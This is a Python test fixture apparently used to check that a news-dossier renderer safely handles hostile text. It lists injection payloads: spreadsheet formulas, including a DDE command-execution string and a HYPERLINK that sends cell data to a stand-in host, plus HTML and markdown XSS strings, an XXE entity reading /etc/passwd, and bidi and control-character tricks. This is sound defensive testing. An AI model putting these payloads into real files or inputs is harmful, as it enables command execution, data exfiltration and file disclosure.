"""Texts of strangers that mean harm to whatever shows them: a table of payloads, and a dossier made of one."""

from __future__ import annotations

from crossbearing.records import (
    Claim,
    Dossier,
    Figure,
    Finding,
    Moment,
    Origin,
    Provenance,
    Published,
    Reading,
    Reason,
    Relation,
    Report,
    Sentence,
    Source,
    Span,
    Story,
    When,
)

PAYLOADS = (
    # formulas
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://trap.example/?x="&A1,"more")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)*2",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "  =1+1",
    "\u00a0=1+1",
    "words;=1+1",
    'words","=1+1',
    "words\t=1+1",
    "words\n=1+1",
    "'=1+1",
    "''=1+1;'=2",
    '"=1+1"',
    # markup
    "# heading",
    "- item\n- item",
    "1. item",
    "12) item",
    "+ item",
    "> said",
    "    code",
    "```\ncode\n```",
    "~~~\ncode",
    "`code` and ``code``",
    "*em* **strong** _em_ __strong__ ~~gone~~ ==marked==",
    "[words](https://trap.example/)",
    "[words](javascript:alert(1))",
    "![image](https://trap.example/x.png)",
    "[words][1]\n\n[1]: https://trap.example/",
    "[^1] and [^2]: a note of my own",
    "\n\n[^1]: another note",
    "^[a note of my own]",
    "<https://trap.example/>",
    "https://trap.example/ and www.trap.example and HTTP://trap.example",
    "somebody@trap.example",
    "mailto:somebody@trap.example",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<!-- hidden --> &lt;b&gt; &#60;b&#62; &amp;",
    "a | b | c\n--- | --- | ---\n1 | 2 | 3",
    "words\n===",
    "words\n---",
    "***",
    "term\n: definition",
    "$$x$$ and $x$",
    "{{ 7 * 7 }} {% raw %}",
    "%%hidden%%",
    ":smile:",
    "ends with a backslash \\",
    "\\[not a link\\]",
    "two\n\nparagraphs",
    "  blanks around  \n  and within  ",
    # characters
    "\u202egnihtemos si siht",
    "\u2067turned\u2066 twice",
    "\u2069\u202c closed, never opened",
    "\ufeff\u200bnothing to see",
    "]]><w:p/><!ENTITY x SYSTEM \"file:///etc/passwd\">",
    "&x; %x;",
    "null \x00, bell \x07, escape \x1b[31m, delete \x7f, \x85 and \x9b",
    "half a pair: \ud83d, the other: \ude00",
    "\ufffe\uffff not characters",
    "شيء ما قيل",
    "emoji 👩‍👩‍👧 and combining Z̴̡͝",
)  # fmt: skip


def a_dossier_of(payload: str) -> Dossier:
    """A dossier in which all that may come from outside is the payload: words, names, titles, reasons, an address."""
    text = f"Before. {payload} After."
    span = Span("report-1", 8, 8 + len(payload))
    source = Source(payload, "person", span)
    figure = Figure(span, 7.0, 7.0, 7.0, payload, payload)
    day = When(span, "2031-05-03", "stated")
    reason = Reason("rule", payload, 0.5, (span,))
    claims = tuple(
        Claim(f"claim-{n}", span, span, 0, (source,), "denies" if n else "asserts", "happened", False,
              figures=(figure,), dates=(day,), said_on=day, because=(reason,))
        for n in (0, 1)
    )  # fmt: skip
    findings = tuple(
        Finding(f"finding-{n}", "story-1", (f"claim-{n}",), span, (payload,),
                (Origin(payload, "person", True, (f"claim-{n}",), (reason,)),), 1, "asserts", "happened", None, None,
                (reason,))
        for n in (0, 1)
    )  # fmt: skip
    address = f"https://lantern.example/{payload.strip()}"
    report = Report(
        "report-1", payload, "capture-1", payload, address, payload, None, payload, payload,
        Published("2031-05-04", "manifest"), "en", text,
    )  # fmt: skip
    return Dossier(
        story=Story("story-1", ("report-1",), span, None, None),
        reports=(report,),
        readings=(Reading("report-1", (Sentence(Span("report-1", 0, len(text)), 0),), (), (), (), (), (), claims),),
        findings=findings,
        relations=(Relation("denies", "finding-1", "finding-0", 0.9, (reason,)),),
        copying=(),
        identities=(),
        utterances=(),
        timeline=(Moment(day, "claim-0", "finding-0"),),
        captures=(Provenance("report-1", "capture-1", payload, "ab" * 32, "text/plain"),),
    )
